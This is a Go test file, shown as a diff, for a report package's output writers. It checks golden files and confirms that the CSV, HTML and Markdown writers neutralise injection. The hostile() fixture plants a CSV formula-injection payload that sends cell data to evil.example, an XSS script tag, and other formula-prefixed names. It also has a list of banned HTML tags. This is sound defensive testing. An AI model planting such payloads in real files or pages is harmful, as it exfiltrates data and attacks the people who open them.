@@ -1,0 +1,237 @@
+package report
+
+import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"flag"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"testing"
+	"time"
+)
+
+var update = flag.Bool("update", false, "rewrite the golden files in testdata/golden from what the writers print")
+
+// TestGolden renders the fixture's October report and its caseload on
+// 2026-10-31 in every format and compares them with testdata/golden.
+// Regenerate with go test ./pkg/report -update, and read the diff.
+func TestGolden(t *testing.T) {
+	snap := fixtureSnapshot(t)
+	monthly := BuildMonthly(snap, fixtureMonth, fixtureSource, false)
+	caseload := BuildCaseload(snap, time.Date(2026, 10, 31, 0, 0, 0, 0, time.UTC), fixtureSource, false)
+	ext := map[string]string{"text": "txt", "md": "md", "html": "html", "csv": "csv", "json": "json"}
+	for _, format := range Formats {
+		w, err := NewWriter(format)
+		if err != nil {
+			t.Fatal(err)
+		}
+		for name, render := range map[string]func(*bytes.Buffer) error{
+			"monthly":  func(b *bytes.Buffer) error { return w.Monthly(b, monthly) },
+			"caseload": func(b *bytes.Buffer) error { return w.Caseload(b, caseload) },
+		} {
+			t.Run(name+"."+format, func(t *testing.T) {
+				var b bytes.Buffer
+				if err := render(&b); err != nil {
+					t.Fatal(err)
+				}
+				golden(t, filepath.Join("testdata", "golden", name+"."+ext[format]), b.Bytes())
+			})
+		}
+	}
+	if _, err := NewWriter("pdf"); err == nil {
+		t.Error("NewWriter(pdf): no error")
+	}
+}
+
+func golden(t *testing.T, path string, got []byte) {
+	t.Helper()
+	if *update {
+		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(path, got, 0o644); err != nil {
+			t.Fatal(err)
+		}
+		return
+	}
+	want, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatalf("%v (run go test ./pkg/report -update to create it)", err)
+	}
+	if !bytes.Equal(got, want) {
+		t.Errorf("%s differs from what the writer prints (go test ./pkg/report -update rewrites it):\n%s", path, firstDiff(string(want), string(got)))
+	}
+}
+
+func firstDiff(want, got string) string {
+	wl, gl := strings.Split(want, "\n"), strings.Split(got, "\n")
+	for i := 0; i < len(wl) || i < len(gl); i++ {
+		var w, g string
+		if i < len(wl) {
+			w = wl[i]
+		}
+		if i < len(gl) {
+			g = gl[i]
+		}
+		if w != g {
+			return "line " + itoa(i+1) + ":\n  want: " + w + "\n  got:  " + g
+		}
+	}
+	return ""
+}
+
+// hostile names a participant the way an attacker would, to check that
+// no writer lets a record's text act as a formula, markup or a table cell.
+func hostile(t *testing.T) (*Monthly, *Caseload) {
+	t.Helper()
+	snap := fixtureSnapshot(t)
+	snap.Case("WS-A").Intake.Participant.Name = `=HYPERLINK("https://evil.example/?x="&A1,"open")`
+	snap.Case("WS-B").Intake.Participant.Name = "<script>alert(1)</script> | *bold*"
+	snap.Case("WS-K").Intake.Participant.Name = "+1 555-0100"
+	snap.Case("W-E").Intake.Participant.Name = "-2+3"
+	snap.Case("W-F").Intake.Participant.Name = "\tTab Example"
+	snap.Case("W-L").Intake.Participant.Name = "\rCarriage Example"
+	day := time.Date(2026, 10, 31, 0, 0, 0, 0, time.UTC)
+	return BuildMonthly(snap, fixtureMonth, fixtureSource, true), BuildCaseload(snap, day, fixtureSource, true)
+}
+
+func TestCSVNeutralizesFormulas(t *testing.T) {
+	m, c := hostile(t)
+	for name, render := range map[string]func(*bytes.Buffer) error{
+		"monthly":  func(b *bytes.Buffer) error { return csvWriter{}.Monthly(b, m) },
+		"caseload": func(b *bytes.Buffer) error { return csvWriter{}.Caseload(b, c) },
+	} {
+		var b bytes.Buffer
+		if err := render(&b); err != nil {
+			t.Fatal(err)
+		}
+		if !bytes.HasSuffix(b.Bytes(), []byte("\r\n")) {
+			t.Errorf("%s: RFC 4180 lines end in CRLF", name)
+		}
+		rows, err := csv.NewReader(&b).ReadAll()
+		if err != nil {
+			t.Fatalf("%s: not CSV: %v", name, err)
+		}
+		participant := map[string]string{}
+		for _, row := range rows[1:] {
+			participant[row[2]] = row[3]
+			for _, cell := range row {
+				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !number.MatchString(cell) {
+					t.Errorf("%s: cell %q can run as a formula", name, cell)
+				}
+			}
+		}
+		for id, want := range map[string]string{
+			"WS-A": `'=HYPERLINK("https://evil.example/?x="&A1,"open")`,
+			"WS-K": "'+1 555-0100",
+			"W-E":  "'-2+3",
+			"W-F":  "'\tTab Example",
+			// encoding/csv drops a lone CR when it writes CRLF line ends.
+			"W-L": "'Carriage Example",
+		} {
+			if participant[id] != want {
+				t.Errorf("%s: %s participant %q, want %q", name, id, participant[id], want)
+			}
+		}
+	}
+	// Plain numbers stay numbers: days left, overdue counts.
+	for _, cell := range []string{"-3", "0", "242", "-0.5"} {
+		if got := Neutralize(cell); got != cell {
+			t.Errorf("Neutralize(%q) = %q", cell, got)
+		}
+	}
+	for _, cell := range []string{"-", "-3+cmd", "@SUM(A1)", "=1", "+", "-1e3"} {
+		if got := Neutralize(cell); got != "'"+cell {
+			t.Errorf("Neutralize(%q) = %q", cell, got)
+		}
+	}
+}
+
+var externalRef = regexp.MustCompile(`(?i)(src|href|xlink:href|url\()\s*=?\s*["']?\s*(https?:)?//`)
+
+func TestHTMLIsSelfContained(t *testing.T) {
+	m, c := hostile(t)
+	for name, render := range map[string]func(*bytes.Buffer) error{
+		"monthly":  func(b *bytes.Buffer) error { return htmlWriter{}.Monthly(b, m) },
+		"caseload": func(b *bytes.Buffer) error { return htmlWriter{}.Caseload(b, c) },
+	} {
+		var b bytes.Buffer
+		if err := render(&b); err != nil {
+			t.Fatal(err)
+		}
+		page := b.String()
+		if n := strings.Count(page, "<svg "); n < 2 {
+			t.Errorf("%s: %d inline SVG charts, want 2", name, n)
+		}
+		if !strings.Contains(page, "<style>") {
+			t.Errorf("%s: no inline style", name)
+		}
+		for _, banned := range []string{"<script", "<link", "<img", "<iframe", "@import"} {
+			if strings.Contains(page, banned) {
+				t.Errorf("%s: contains %s", name, banned)
+			}
+		}
+		if loc := externalRef.FindStringIndex(page); loc != nil {
+			t.Errorf("%s: refers to something outside the page: %q", name, page[loc[0]:loc[1]])
+		}
+		if !strings.Contains(page, "&lt;script&gt;alert(1)&lt;/script&gt;") {
+			t.Errorf("%s: the participant's name is not escaped", name)
+		}
+	}
+	// The fixture's own pages name no address at all, not even the SVG
+	// namespace (inline SVG in HTML needs none).
+	snap := fixtureSnapshot(t)
+	var b bytes.Buffer
+	if err := (htmlWriter{}).Monthly(&b, BuildMonthly(snap, fixtureMonth, fixtureSource, false)); err != nil {
+		t.Fatal(err)
+	}
+	if s := b.String(); strings.Contains(s, "http://") || strings.Contains(s, "https://") {
+		t.Error("the monthly page contains an http:// or https:// address")
+	}
+}
+
+func TestMarkdownEscapesCells(t *testing.T) {
+	m, _ := hostile(t)
+	var b bytes.Buffer
+	if err := (markdownWriter{}).Monthly(&b, m); err != nil {
+		t.Fatal(err)
+	}
+	if !strings.Contains(b.String(), `&lt;script&gt;alert(1)&lt;/script&gt; \| \*bold\*`) {
+		t.Error("a participant's name is not escaped in the Markdown table")
+	}
+	for _, line := range strings.Split(b.String(), "\n") {
+		if strings.HasPrefix(line, "| WS-B ") && strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") != 13 {
+			t.Errorf("row broken into other cells: %s", line)
+		}
+	}
+}
+
+// The JSON summary has exactly the keys of the contract, among others.
+func TestJSONContract(t *testing.T) {
+	var b bytes.Buffer
+	if err := (jsonWriter{}).Monthly(&b, BuildMonthly(fixtureSnapshot(t), fixtureMonth, fixtureSource, false)); err != nil {
+		t.Fatal(err)
+	}
+	var doc struct {
+		Commit  string                     `json:"commit"`
+		Summary map[string]json.RawMessage `json:"summary"`
+		Cases   []map[string]any           `json:"cases"`
+	}
+	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
+		t.Fatal(err)
+	}
+	for _, k := range []string{"open_at_start", "open_at_end", "opened", "closed", "placed", "contacts", "contact_compliance", "overdue_contacts", "extensions_requested", "extensions_approved", "applications", "interviews"} {
+		if _, ok := doc.Summary[k]; !ok {
+			t.Errorf("summary has no %q", k)
+		}
+	}
+	if doc.Commit != fixtureSource.Commit {
+		t.Errorf("commit %q", doc.Commit)
+	}
+	if len(doc.Cases) == 0 || doc.Cases[0]["id"] != "P-H" {
+		t.Errorf("cases[0] = %v", doc.Cases)
+	}
+}
